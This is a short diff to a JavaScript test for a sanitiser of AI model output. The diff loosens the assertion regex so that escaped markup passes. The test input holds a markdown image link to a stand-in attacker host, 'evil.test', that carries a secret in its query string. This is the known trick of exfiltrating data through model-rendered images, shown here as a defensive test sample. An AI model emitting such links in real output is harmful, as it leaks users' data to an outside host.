@@ -158,7 +158,7 @@ describe('an answer', () => {
     const text =
       'See ![x](https://evil.test/?d=secret) [here](http://evil.test) <img src=x> @admin fixes #12 <!-- hidden --> www.evil.test';
     const clean = sanitiseModelText(text, 500);
-    expect(clean).not.toMatch(/evil\.test|<img|<!--|@admin|#12/);
+    expect(clean).not.toMatch(/evil\.test|(?<!\\)<img|(?<!\\)<!--|(?<!`)@admin|(?<!`)#12/);
   });
 });
 
